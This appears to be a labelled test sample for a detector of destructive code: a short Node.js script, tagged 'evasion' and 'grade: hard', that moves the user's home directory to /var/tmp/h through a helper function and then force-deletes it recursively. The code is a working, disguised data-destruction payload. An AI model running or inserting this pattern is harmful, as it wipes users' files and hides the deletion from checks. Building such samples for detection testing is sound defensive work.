// evasion: a move() helper of the program renames the home directory (its parameter), then the new name is removed
// grade: hard; does: delete
'use strict';
const fs = require('fs'); const os = require('os');
function move(from, to) { fs.renameSync(from, to); }
move(os.homedir(), '/var/tmp/h'); fs.rmSync('/var/tmp/h', { recursive: true, force: true });
